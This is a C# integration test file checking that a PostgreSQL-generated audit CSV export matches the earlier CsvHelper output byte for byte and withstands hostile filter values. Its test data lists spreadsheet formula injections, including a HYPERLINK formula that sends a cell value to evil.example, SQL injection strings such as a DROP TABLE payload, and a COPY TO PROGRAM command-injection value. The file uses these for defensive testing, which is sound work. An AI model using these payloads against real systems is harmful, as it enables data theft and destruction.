using System.Globalization;
using System.Net;
using ControlPlane.Core.Audit;
using ControlPlane.Core.Data;
using ControlPlane.Core.Deployments;
using ControlPlane.IntegrationTests.Infrastructure;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;
using Npgsql;

namespace ControlPlane.IntegrationTests.Audit;

/// <summary>
/// PostgreSQL writes the audit CSV (<see cref="AuditCsvExport"/>). It must be byte for byte what the export wrote before,
/// when each event was materialized and CsvHelper quoted it: compared here on text built to break CSV, spreadsheets and
/// SQL, for every filter the endpoint takes, and with filter values that would be SQL injection if they were ever
/// spliced into the COPY statement.
/// </summary>
public sealed class AuditCsvExportTests(PostgresFixture postgres) : IAsyncLifetime
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private ControlPlaneAppFactory _factory = null!;

    private static readonly string[] Nasty =
    [
        "plain", "comma, inside", "quote \" inside", "\"starts with a quote", "line\nbreak", "cr\rinside", "crlf\r\nend\r\n",
        "=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1", "-2+3", "@SUM(1)", "\tTab first", "\rCR first", "\nLF first",
        "'=already escaped", " =space first", "\u00a0=nbsp first", "ünïcödé ✓ 日本語 🚀 \u2028 end", "trailing space ", "\\N", "\\.", "back\\slash",
        "x' OR '1'='1", "'); DROP TABLE audit_events; --", "$$ dollar $$", "E'\\x27'", "controlplane.audit_export_actor", "",
    ];

    private static readonly Guid Deployment = Guid.Parse("0192f2a4-7c1e-7e3a-9b2d-5f6a7b8c9d0e");
    private static readonly DateTimeOffset T0 = new(2026, 3, 1, 12, 0, 0, TimeSpan.Zero);

    public async ValueTask InitializeAsync()
    {
        _factory = await ControlPlaneAppFactory.StartAsync(postgres);
        await using var scope = _factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<ControlPlaneDbContext>();
        var i = 0;
        DateTimeOffset At() => T0.AddSeconds(i).AddTicks(i * 13 % 10 * 10 + (i % 3 == 0 ? 0 : 1230));
        foreach (var text in Nasty)
        {
            i++;
            // Every text column gets the value once; NULL and empty alike in the optional ones.
            var actor = new Actor(text.Length == 0 ? "nobody" : text[..Math.Min(text.Length, 128)], (ActorKind)(i % 3), i % 4 == 0 ? null : text);
            db.Record(AuditEvent.Create(actor, text.Length == 0 ? "csv.test" : text[..Math.Min(text.Length, 64)], At(),
                application: i % 5 == 0 ? null : text[..Math.Min(text.Length, 63)], deploymentId: i % 2 == 0 ? Deployment : null,
                before: text, after: i % 3 == 0 ? null : text, reason: text, details: i % 2 == 0 ? text : $$"""{"note":"{{text.Replace("\\", "\\\\").Replace("\"", "\\\"").Replace("\n", "\\n").Replace("\r", "\\r").Replace("\t", "\\t")}}","n":{{i}}}"""));
        }
        // Lines far longer than the 64 kB read buffer, so rows and their framing straddle reads.
        for (var k = 0; k < 3; k++)
        {
            i++;
            db.Record(AuditEvent.Create(Actor.System, "csv.long", At(), "long", details: "=" + new string('"', 70_000 + k) + "," + new string('ü', 40_000)));
        }
        await db.SaveChangesAsync(Ct);
    }

    public async ValueTask DisposeAsync() => await _factory.DisposeAsync();

    private static readonly string[] Filters =
    [
        "",
        "&application=" + Uri.EscapeDataString("comma, inside"),
        "&actor=" + Uri.EscapeDataString("x' OR '1'='1"),
        "&actor=" + Uri.EscapeDataString("'); DROP TABLE audit_events; --"),
        "&action=" + Uri.EscapeDataString("$$ dollar $$"),
        "&actor=" + Uri.EscapeDataString("E'\\x27'"),
        "&actor=" + Uri.EscapeDataString("back\\slash"),
        "&actor=" + Uri.EscapeDataString("ünïcödé ✓ 日本語 🚀 \u2028 end"),
        "&application=no-such-application",
        "&deploymentId=" + Deployment,
        "&from=" + Uri.EscapeDataString(T0.AddSeconds(5).ToString("O", CultureInfo.InvariantCulture)),
        "&to=" + Uri.EscapeDataString(T0.AddSeconds(20).AddTicks(1230).ToString("O", CultureInfo.InvariantCulture)),
        // Below a microsecond: the bound is truncated to PostgreSQL's precision exactly as a bound parameter is.
        "&to=" + Uri.EscapeDataString(T0.AddSeconds(3).AddTicks(95).ToString("O", CultureInfo.InvariantCulture)),
        "&from=" + Uri.EscapeDataString(T0.AddSeconds(3).AddTicks(95).ToString("O", CultureInfo.InvariantCulture)),
        "&from=" + Uri.EscapeDataString("2026-03-01T14:00:07.5+02:00") + "&to=" + Uri.EscapeDataString("2026-03-01T12:00:25Z") + "&deploymentId=" + Deployment,
        "&application=long&action=csv.long",
    ];

    [Fact]
    public async Task The_csv_is_byte_for_byte_what_the_per_event_writer_produced()
    {
        // One host for every filter: a host per case would cost half a minute each.
        foreach (var query in Filters) await CompareAsync(query);
    }

    private async Task CompareAsync(string query)
    {
        using var admin = _factory.Admin();
        using var response = await admin.GetAsync("/api/v1/audit/export?format=csv" + query, Ct);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"«{query}» answered {response.StatusCode}: {await response.Content.ReadAsStringAsync(Ct)}");
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        Assert.StartsWith("attachment; filename=\"audit-", response.Content.Headers.ContentDisposition?.ToString());
        var exported = await response.Content.ReadAsByteArrayAsync(Ct);

        var expected = await ReferenceAsync(ParseFilter(query));
        Assert.True(expected.Length > 0);
        if (!exported.AsSpan().SequenceEqual(expected))
        {
            var at = exported.AsSpan().CommonPrefixLength(expected);
            Assert.Fail($"with filter «{query}» the export differs from the reference at byte {at} of {expected.Length}: " +
                $"got «{Snippet(exported, at)}», expected «{Snippet(expected, at)}»");
        }
    }

    [Fact]
    public async Task Hostile_filter_values_select_only_their_own_events_and_change_nothing()
    {
        using var admin = _factory.Admin();
        var before = await CountAsync();
        foreach (var hostile in new[] { "x' OR '1'='1", "'); DROP TABLE audit_events; --", "') TO PROGRAM 'touch /tmp/pwned' --" })
        {
            var csv = await admin.GetStringAsync("/api/v1/audit/export?format=csv&actor=" + Uri.EscapeDataString(hostile), Ct);
            var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
            var expected = Nasty.Contains(hostile) ? 1 : 0;
            Assert.Equal(1 + expected, lines.Length);
        }
        Assert.Equal(before, await CountAsync());
        Assert.False(File.Exists("/tmp/pwned"));
    }

    private async Task<long> CountAsync()
    {
        await using var connection = new NpgsqlConnection(_factory.ConnectionString);
        await connection.OpenAsync(Ct);
        await using var command = new NpgsqlCommand("SELECT count(*) FROM audit_events", connection);
        return (long)(await command.ExecuteScalarAsync(Ct))!;
    }

    private static AuditFilter ParseFilter(string query)
    {
        var values = query.Split('&', StringSplitOptions.RemoveEmptyEntries).Select(p => p.Split('=', 2))
            .ToDictionary(p => p[0], p => Uri.UnescapeDataString(p[1]));
        return new AuditFilter(values.GetValueOrDefault("application"), values.GetValueOrDefault("actor"), values.GetValueOrDefault("action"),
            // In UTC: Npgsql refuses another offset as a parameter, so the per-event export answered 500 to ?from=…+02:00.
            values.TryGetValue("from", out var f) ? DateTimeOffset.Parse(f, CultureInfo.InvariantCulture).ToUniversalTime() : null,
            values.TryGetValue("to", out var t) ? DateTimeOffset.Parse(t, CultureInfo.InvariantCulture).ToUniversalTime() : null,
            values.TryGetValue("deploymentId", out var d) ? Guid.Parse(d) : null);
    }

    /// <summary>The export as it was written before PostgreSQL did it: each event through EF, each field through CsvHelper.</summary>
    private async Task<byte[]> ReferenceAsync(AuditFilter filter)
    {
        await using var scope = _factory.Services.CreateAsyncScope();
        var query = scope.ServiceProvider.GetRequiredService<AuditQuery>();
        using var body = new MemoryStream();
        await using (var csv = CsvWriter.Create(body, CsvWriterOptions.Default with { Injection = CsvInjection.Escape }, leaveOpen: true))
        {
            foreach (var h in AuditCsvExport.Header) csv.WriteField(h);
            await csv.EndRecordAsync(Ct);
            await foreach (var e in query.StreamAsync(filter).WithCancellation(Ct))
            {
                csv.WriteField(e.Sequence.ToString(CultureInfo.InvariantCulture));
                csv.WriteField(e.OccurredAt.UtcDateTime.ToString("O", CultureInfo.InvariantCulture));
                csv.WriteField(e.Actor);
                csv.WriteField(e.ActorKind.ToString());
                csv.WriteField(e.SourceIp ?? "");
                csv.WriteField(e.Action);
                csv.WriteField(e.Application ?? "");
                csv.WriteField(e.DeploymentId?.ToString() ?? "");
                csv.WriteField(e.BeforeState ?? "");
                csv.WriteField(e.AfterState ?? "");
                csv.WriteField(e.Reason ?? "");
                csv.WriteField(e.Details ?? "");
                csv.WriteField(e.PreviousHash);
                csv.WriteField(e.Hash);
                await csv.EndRecordAsync(Ct);
            }
            await csv.FlushAsync(Ct);
        }
        return body.ToArray();
    }

    private static string Snippet(byte[] bytes, int at) =>
        System.Text.Encoding.UTF8.GetString(bytes, Math.Max(0, at - 40), Math.Min(bytes.Length, at + 40) - Math.Max(0, at - 40))
            .Replace("\r", "\\r").Replace("\n", "\\n").Replace("\t", "\\t");
}
